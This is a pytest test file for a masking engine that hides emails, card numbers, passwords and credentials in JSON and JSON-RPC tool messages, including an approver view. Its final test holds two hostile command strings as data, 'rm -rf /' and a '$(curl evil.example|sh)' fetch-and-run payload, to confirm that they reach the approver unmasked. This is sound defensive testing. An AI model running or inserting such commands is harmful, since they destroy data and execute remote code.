"""The engine: what changes, what must not, and who sees what."""

from typing import Any

import orjson
import pytest

from masking.detectors import DETECTORS
from masking.engine import Engine, Masker, MaskingFailed
from masking.rules import MaskingRule, Replace

KEY = b"a key of the installation's own"
ALL = tuple(sorted(DETECTORS))
CARD = "4111 1111 1111 1111"


def masker(*rules: MaskingRule, connection: str = "orders-db", groups: frozenset[str] | None = None) -> Masker:
    return Engine(rules or (MaskingRule(name="all", detectors=ALL),), hash_key=KEY).masker(connection, groups)


def rule(replace: Replace = "label", **keys: Any) -> MaskingRule:
    return MaskingRule(name=keys.pop("name", "r"), replace=replace, **keys)


def masked(document: Any, *rules: MaskingRule, **keys: Any) -> Any:
    return orjson.loads(masker(*rules).json(orjson.dumps(document), **keys).body)


def test_a_document_without_hits_comes_back_as_the_same_object() -> None:
    document = b'{ "a" : [1e5, 0.10, "x\\n\\u00e9", 12345678901234567890123], "e": "\xc3\xa9" }'
    outcome = masker().json(document)
    assert outcome.body is document
    assert not outcome.changed
    assert outcome.hits == {}


def test_a_document_that_was_walked_in_vain_comes_back_as_the_same_object() -> None:
    document = b'{"secret": true, "n": "git@github.com:a/b", "f": 1.50}'
    assert masker().json(document).body is document


def test_only_the_hidden_value_changes_and_numbers_keep_their_spelling() -> None:
    numbers = b'"a":1e5,"b":0.10,"c":12345678901234567890123,"d":-0,"e":18446744073709551616'
    document = b'{"m":"alice@example.com",' + numbers + b"}"
    outcome = masker().json(document)
    assert outcome.body == document.replace(b"alice@example.com", b"[email]")
    assert outcome.hits == {"email": 1}
    assert outcome.changed


@pytest.mark.parametrize(
    "document",
    [
        b'{"a":"alice\\u0040example.com"}',
        b'{"a":"\\u0061lice@example\\u002ecom"}',
        b'["4111\\u00201111 1111 1111"]',
        b'["\\u0034111111111111111"]',
        b'["x\\n4111111111111111"]',
        b'["\\u00014111111111111111"]',
        b'["\\uff14111111111111111"]',
        b'{"\\u0070assword":"hunter2"}',
        b'{"a":"{\\"password\\":\\"hunter2\\"}"}',
        b'{"a":"{\\"b\\":\\"alice\\\\u0040example.com\\"}"}',
        b'{"a":"{\\"b\\":\\"{\\\\\\"c\\\\\\":\\\\\\"alice\\\\\\\\u0040example.com\\\\\\"}\\"}"}',
        b'{"a":"postgres:\\/\\/u:hunter2@db"}',
        b'{"a":4111111111111111}',
        b'{"a":-4111111111111111}',
        b'{"a":4111111111111111.0}',
        b'{"4111111111111111":1}',
    ],
)
def test_escapes_and_places_hide_nothing(document: bytes) -> None:
    outcome = masker().json(document)
    assert outcome.changed
    assert sum(outcome.hits.values()) == 1
    for secret in (b"example", b"4111", b"hunter2"):
        assert secret not in outcome.body


def test_a_member_that_stands_twice_leaves_once() -> None:
    outcome = masker().json(b'{"a":"4111111111111111","a":"fine"}')
    assert outcome.body == b'{"a":"fine"}'
    hidden = masker().json(b'{"a":"alice\\u0040example.com","a":"fine"}')
    assert hidden.body == b'{"a":"fine"}'
    nested = masker().json(b'{"t":"{\\"a\\":\\"4111111111111111\\",\\"a\\":1}"}')
    assert nested.body == b'{"t":"{\\"a\\":1}"}'


def test_masked_values_keep_their_type() -> None:
    fields = rule(fields=("ssn",), name="columns")
    document = {"ssn": "1"}, {"ssn": 5}, {"ssn": 1.5}, {"ssn": True}, {"ssn": None}, {"ssn": [1, {"a": "b"}]}
    assert masked(document, fields) == [
        {"ssn": "[ssn]"}, {"ssn": 0}, {"ssn": 0}, {"ssn": False}, {"ssn": None}, {"ssn": [0, {"a": "[ssn]"}]},
    ]  # fmt: skip


def test_ways_of_replacing() -> None:
    assert masked([CARD], rule("label", detectors=("credit_card",))) == ["[credit_card]"]
    assert masked([f"no {CARD}."], rule("partial", detectors=("credit_card",))) == ["no ****1111."]
    assert masked([f"no {CARD}."], rule("remove", detectors=("credit_card",))) == ["no ."]
    assert masked(["pwd=short"], rule("partial", detectors=("password_assignment",))) == ["pwd=****"]


def test_a_pseudonym_is_stable_and_keyed() -> None:
    hashing = rule("hash", detectors=("email",))
    first, again, other = masked(["a@b.com", "x a@b.com", "c@b.com"], hashing)
    assert first == again.removeprefix("x ") != other
    assert len(first) == len("[email:ab12cd34]")
    elsewhere = Engine([hashing], hash_key=b"another installation").masker("c", None)
    assert elsewhere.value("a@b.com") != first
    assert masked([first], hashing) == [first]


def test_of_two_rules_for_a_value_the_stricter_counts() -> None:
    rules = [rule(way, detectors=("credit_card",)) for way in ("partial", "label", "hash")]
    assert masked([CARD], *rules) == ["[credit_card]"]
    assert masked([CARD], *rules, rule("remove", detectors=("credit_card",))) == [""]


def test_overlapping_spans_are_hidden_whole_as_the_longest() -> None:
    both = rule("partial", detectors=("email",)), rule("label", detectors=("password_assignment",))
    assert masked(["password=alice@example.com,x"], *both) == ["password=[password_assignment],x"]
    url = masked(["postgres://app:hunter2@db.example.com/x"], *both)
    assert url == ["postgres://app:****.com/x"]


def test_excepted_groups_see_the_value_unless_another_rule_hides_it() -> None:
    people = rule(detectors=("email",), except_groups=frozenset({"leads"}))
    other = rule("hash", detectors=("email",), connections=("crm*",))
    text = "a@b.com"
    assert masker(people, groups=frozenset({"leads", "x"})).text(text) == text
    assert masker(people, groups=frozenset({"x"})).text(text) == "[email]"
    assert masker(people, groups=None).text(text) == "[email]"
    assert masker(people, other, connection="CRM-eu", groups=frozenset({"leads"})).text(text).startswith("[email:")
    assert masker(people, other, connection="CRM-eu", groups=None).text(text) == "[email]"


def test_maskers_are_made_once_for_groups_that_no_rule_names() -> None:
    engine = Engine([rule(detectors=("email",), except_groups=frozenset({"leads"}))], hash_key=KEY)
    assert engine.masker("a", frozenset({"x"})) is engine.masker("b", None)
    assert engine.masker("a", frozenset({"leads"})) is not engine.masker("a", None)


def test_correlation_and_protocol_words_stay() -> None:
    message = {
        "jsonrpc": "2.0",
        "id": 4111111111111111,
        "result": {
            "resultType": "complete",
            "requestState": "alice@example.com",
            "content": [{"type": "text", "text": "alice@example.com", "mimeType": "text/plain"}],
            "structuredContent": {"type": "alice@example.com", "id": "secret"},
        },
    }
    found = masked(message, rule(detectors=ALL), rule("remove", fields=("id", "type", "resultType", "text")))
    assert found["id"] == 4111111111111111
    assert found["result"]["resultType"] == "complete"
    assert found["result"]["requestState"] == "alice@example.com"
    assert found["result"]["content"] == [{"type": "text", "text": "[email]", "mimeType": "text/plain"}]
    assert found["result"]["structuredContent"] == {}


def test_structured_content_and_its_text_twin_get_the_same_mask() -> None:
    data = {"rows": [{"ssn": "123-45-6789", "mail": "a@b.com", "pay": {"salary": 10}}]}
    message = {"jsonrpc": "2.0", "id": 1, "result": {
        "content": [{"type": "text", "text": orjson.dumps(data).decode()}],
        "structuredContent": data,
    }}  # fmt: skip
    fields = rule("remove", fields=("ssn", "**.salary"), name="columns")
    result = masked(message, rule(detectors=ALL), fields)["result"]
    assert result["structuredContent"] == {"rows": [{"mail": "[email]", "pay": {}}]}
    assert orjson.loads(result["content"][0]["text"]) == result["structuredContent"]


def test_removal_is_a_label_where_the_output_schema_requires_the_member() -> None:
    fields = rule("remove", fields=("ssn", "age"))
    assert masked({"ssn": "1", "age": 3}, fields, required=frozenset({"ssn"})) == {"ssn": "[ssn]"}


def test_error_data_notifications_and_batches_are_masked() -> None:
    error = {
        "jsonrpc": "2.0",
        "id": 1,
        "error": {"code": -1, "message": "for a@b.com", "data": {"password": "x"}},
    }
    note = {
        "jsonrpc": "2.0",
        "method": "notifications/message",
        "params": {"data": "a@b.com", "level": "info"},
    }
    found = masked([error, note])
    assert found[0]["error"] == {
        "code": -1,
        "message": "for [email]",
        "data": {"password": "[password_assignment]"},
    }
    assert found[1]["params"] == {"data": "[email]", "level": "info"}


def test_the_schema_of_a_tool_keeps_the_names_of_its_arguments() -> None:
    schema = {"type": "object", "properties": {"password": {"type": "string"}, "ssn": {"type": "string"}}}
    tool = {"name": "t", "description": "mail a@b.com", "inputSchema": schema}
    message = {"jsonrpc": "2.0", "id": 1, "result": {"tools": [tool]}}
    found = masked(message, rule(detectors=ALL), rule("remove", fields=("ssn",)))["result"]["tools"][0]
    assert found == {**tool, "description": "mail [email]"}


def test_keys_are_masked_without_losing_members() -> None:
    found = masked({"a@b.com": 1, "c@d.com": 2, "[email]": 3})
    assert sorted(found.values()) == [1, 2, 3]
    assert not any("@" in key for key in found)


def test_text_blobs_are_decoded_and_others_pass() -> None:
    import base64

    secret = base64.b64encode(b'{"mail":"alice@example.com"}').decode()
    contents = [
        {"uri": "a", "mimeType": "application/json", "blob": secret},
        {"uri": "b", "mimeType": "image/png", "blob": secret},
        {"uri": "c", "blob": secret},
    ]
    found = masked(contents)
    assert base64.b64decode(found[0]["blob"]) == b'{"mail":"[email]"}'
    assert base64.b64decode(found[1]["blob"]) == b'{"mail":"[email]"}'  # no image, whatever it says it is
    assert base64.b64decode(found[2]["blob"]) == b'{"mail":"[email]"}'
    with pytest.raises(MaskingFailed):
        masked({"mimeType": "text/csv", "blob": "*no base64*"})


@pytest.mark.parametrize(
    "document",
    [
        b'{"a":"a@b.com"',
        b'{"a":"a@b.com","b":NaN}',
        b'{"a":"a@b.com","b":"\\ud800"}',
        b'"a@b.com\xff"',
        '"a@b.com"'.encode("utf-16"),
        b"[" * 201 + b'"a@b.com"' + b"]" * 201,
        b"[" * 100_000 + b'"a@b.com"',
    ],
)
def test_what_cannot_be_read_is_not_passed_on(document: bytes) -> None:
    with pytest.raises(MaskingFailed) as failure:
        masker().json(document)
    assert "a@b" not in str(failure.value)


def test_two_hundred_levels_are_read() -> None:
    document = b"[" * 200 + b'"a@b.com"' + b"]" * 200
    assert masker().json(document).body == document.replace(b"a@b.com", b"[email]")


def test_the_secret_of_the_gateway_is_hidden_in_every_form() -> None:
    secret = 's3cr3t/"x"+é-key'
    import base64
    from urllib.parse import quote

    basic = base64.b64encode(f"user:{secret}".encode()).decode()
    nested = orjson.dumps({"t": secret}).decode()
    document = {
        "a": f"is {secret}!",
        "b": basic,
        "c": quote(secret, safe=""),
        "d": nested,
        secret: 1,
        "e": [nested],
    }
    body = masker(rule("partial", detectors=("api_key",))).json(orjson.dumps(document), literals=(secret,)).body
    found = orjson.loads(body)
    assert found["a"] == "is [credential]!"
    assert found["c"] == "[credential]"
    assert found["d"] == '{"t":"[credential]"}'
    assert found["[credential]"] == 1
    assert b"s3cr3t" not in body
    assert base64.b64decode(found["b"]) == b"user:[credential]"


def test_no_rules_change_nothing_but_the_secret() -> None:
    nothing = Engine([], hash_key=KEY).masker("c", None)
    assert nothing.json(b'["a@b.com"]').body == b'["a@b.com"]'
    assert nothing.text("tok abcd", literals=("abcd",)) == "tok [credential]"
    assert nothing.text("x", literals=("",)) == "x"


def test_unknown_detectors_and_paths_are_refused() -> None:
    with pytest.raises(ValueError, match="unknown detectors: nose"):
        Engine([rule(detectors=("nose",))], hash_key=KEY)
    with pytest.raises(ValueError, match="empty segment"):
        Engine([rule(fields=("a..b",))], hash_key=KEY)


def test_an_approver_sees_a_mask_that_came_with_the_call_as_it_came() -> None:
    reader = masker(rule(detectors=ALL), rule("hash", fields=("customer",)))
    came = {
        "api_key": "[api_key]",
        "password": "[password_assignment]",
        "customer": "[customer:ab12cd34]",
        "note": "password=[password_assignment] for [email:17 chars]",
        "rows": "id,password\n1,[credential]",
    }
    assert reader.for_approver(came) == came
    assert reader.for_approver({"password": "[mine]"}) == {"password": "[password_assignment:6 chars]"}


def test_an_approver_sees_lengths_and_no_code_behind_a_mask() -> None:
    reader = masker(rule(detectors=ALL), rule("remove", fields=("ssn", "salary")))
    shown = reader.for_approver(
        {
            "q": "UPDATE x SET m='alice@example.com'",
            "ssn": "123-45-6789",
            "salary": 50000,
            "password": "hunter2",
            "secret": "x; rm -rf /",
            "cmd": "password='$(curl evil.example|sh)'",
            "card": 4111111111111111,
        }
    )
    assert shown == {
        "q": "UPDATE x SET m='[email:17 chars]'",
        "ssn": "[ssn:11 chars]",
        "salary": "[salary:5 chars]",
        "password": "[password_assignment:7 chars]",
        "secret": "x; rm -rf /",
        "cmd": "password='$(curl evil.example|sh)'",
        "card": "[credit_card:16 chars]",
    }
